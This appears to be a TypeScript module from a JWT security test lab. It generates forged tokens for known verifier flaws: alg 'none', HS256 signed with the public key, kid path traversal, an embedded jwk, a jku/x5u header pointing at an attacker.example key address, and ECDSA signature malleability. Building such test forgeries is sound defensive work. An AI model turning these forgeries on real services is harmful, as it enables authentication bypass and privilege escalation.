import { exportJWK, exportSPKI, generateKeyPair, importJWK } from "jose";
import { decodeLeniently, encodeBase64url } from "@/lib/inspect/base64url";
import { decodeJwt } from "@/lib/inspect/decode-jwt";
import type { ForgeryName } from "./forgeries";
import type { Material } from "./material";

type Json = Record<string, unknown>;

const encoder = new TextEncoder();
const encode = (value: Json) => encodeBase64url(encoder.encode(JSON.stringify(value)));

/** An address that does not exist (RFC 2606 §2): nobody fetches it, the lab least of all. */
const address = "https://attacker.example/jwks.json";

/**
 * Makes a forgery, as anybody could, in this browser.
 *
 * @throws LabProblem when the lab does not answer, TypeError where the browser has no Web Crypto
 */
export async function forge(name: ForgeryName, material: Material): Promise<string> {
  const { own } = material;
  const { header, claims } = decodeJwt(own) ?? { header: {}, claims: {} };
  const admin = { ...claims, sub: "user-ada", roles: ["admin"] };
  const [head = "", body = "", signature = ""] = own.split(".");
  switch (name) {
    case "genuine":
      return own;
    case "tampered-role":
      return `${head}.${encode(admin)}.${signature}`;
    case "alg-none":
      return `${encode({ ...header, alg: "none" })}.${encode(admin)}.`;
    case "alg-none-respelt":
      return `${encode({ ...header, alg: "noNE" })}.${encode(admin)}.`;
    case "public-key-as-secret":
      return withSecret({ ...header, alg: "HS256" }, admin, await publicPem(material));
    case "kid-nowhere":
      return withSecret({ ...header, alg: "HS256", kid: "../../../dev/null" }, admin, "");
    case "key-in-header":
      return withOwnKey(header, admin, (jwk) => ({ jwk }));
    case "key-address":
      return withOwnKey(header, admin, () => ({ jku: address, x5u: address }));
    case "id-token":
    case "other-audience":
    case "yesterday":
    case "without-exp":
      return material.foreign(name);
    case "revoked":
      await material.revokeOwn();
      return own;
    case "respelled":
      await material.revokeOwn();
      return respelled(own);
    case "twin":
      await material.revokeOwn();
      return `${head}.${body}.${twinOf(signature)}`;
  }
}

/** As OpenSSL and Node write it: with a line break at the end. */
async function publicPem(material: Material): Promise<string> {
  const { kty, crv, x, y } = await material.publicKey();
  const jwk = { kty: String(kty), crv: String(crv), x: String(x), y: String(y), ext: true };
  const key = await importJWK(jwk, "ES256");
  return key instanceof Uint8Array ? "" : `${(await exportSPKI(key)).trimEnd()}\n`;
}

async function withSecret(header: Json, claims: Json, secret: string): Promise<string> {
  const input = `${encode(header)}.${encode(claims)}`;
  return `${input}.${encodeBase64url(await hmacSha256(encoder.encode(secret), encoder.encode(input)))}`;
}

/** HMAC as RFC 2104 §2 has it: Web Crypto refuses an empty key, and a forger does not. */
async function hmacSha256(secret: Uint8Array, message: Uint8Array): Promise<Uint8Array> {
  const block = 64;
  const hashed = secret.length > block ? await sha256(secret) : secret;
  const pad = (value: number) => Uint8Array.from({ length: block }, (_, at) => (hashed[at] ?? 0) ^ value);
  return sha256(pad(0x5c), await sha256(pad(0x36), message));
}

async function sha256(...parts: Uint8Array[]): Promise<Uint8Array> {
  const whole = Uint8Array.from(parts.flatMap((part) => [...part]));
  return new Uint8Array(await crypto.subtle.digest("SHA-256", whole));
}

async function withOwnKey(header: Json, claims: Json, more: (jwk: Json) => Json): Promise<string> {
  const { privateKey, publicKey } = await generateKeyPair("ES256", { extractable: true });
  const input = `${encode({ ...header, ...more({ ...(await exportJWK(publicKey)) }) })}.${encode(claims)}`;
  const algorithm = { name: "ECDSA", hash: "SHA-256" };
  const signature = await crypto.subtle.sign(algorithm, privateKey, encoder.encode(input));
  return `${input}.${encodeBase64url(new Uint8Array(signature))}`;
}

/** The last of 86 characters carries two bits of the signature's 512, and four that mean nothing. */
function respelled(token: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  return token.slice(0, -1) + alphabet.charAt(alphabet.indexOf(token.charAt(token.length - 1)) ^ 1);
}

/** The order n of P-256 (SEC 2 §2.4.2). */
const ORDER = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;

function twinOf(signature: string): string {
  const bytes = decodeLeniently(signature) ?? new Uint8Array(64);
  const hex = Array.from(bytes.subarray(32), (byte) => byte.toString(16).padStart(2, "0")).join("");
  const other = (ORDER - BigInt(`0x${hex}`)).toString(16).padStart(64, "0");
  const s = (other.match(/../g) ?? []).map((pair) => Number.parseInt(pair, 16));
  return encodeBase64url(Uint8Array.from([...bytes.subarray(0, 32), ...s]));
}
